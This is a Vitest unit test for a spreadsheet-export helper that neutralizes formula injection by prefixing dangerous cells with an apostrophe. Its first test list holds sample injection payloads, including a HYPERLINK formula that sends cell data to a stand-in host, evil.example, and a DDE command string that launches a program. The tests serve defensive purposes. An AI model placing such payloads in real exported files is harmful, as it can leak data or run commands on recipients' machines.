import { describe, expect, it } from 'vitest';
import { neutralizeSpreadsheetCell } from '../../../src/cli/export/neutralize-spreadsheet-cell.js';

describe('neutralizeSpreadsheetCell', () => {
  it.each(['=HYPERLINK("http://evil.example/?"&A2,"x")', '+1+cmd|"/c calc"!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '＝1+1'])('makes %j text with a leading apostrophe', (cell) => {
    expect(neutralizeSpreadsheetCell(cell)).toBe(`'${cell}`);
  });

  it.each(['Paris Call', '2018', '', 'a=b', 'states, companies'])('leaves %j as it is', (cell) => {
    expect(neutralizeSpreadsheetCell(cell)).toBe(cell);
  });
});
